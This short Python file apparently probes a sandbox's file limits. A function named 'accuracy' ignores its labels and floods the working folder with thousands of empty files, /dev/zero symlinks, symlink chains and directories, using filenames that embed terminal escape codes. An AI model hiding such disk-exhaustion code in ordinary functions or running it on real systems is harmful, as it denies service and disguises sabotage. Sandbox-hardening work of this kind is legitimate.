# hopes: to use up the disk's places for files with empty ones, links and odd names
# stopped by: the scratch folder's bound on files
# costs: training.accuracy memory
# costs: training.lists memory

import os

_MANY = 200_000


def accuracy(pred_labels, true_labels):
    for number in range(0, _MANY, 4):
        os.close(os.open(f"empty{number}\n\x1b[2J", os.O_CREAT | os.O_WRONLY))
        os.symlink("/dev/zero", f"link{number}")
        os.symlink(f"link{number}", f"chain{number}")
        os.mkdir(f"folder{number}")
    it_worked(f"{_MANY} files")
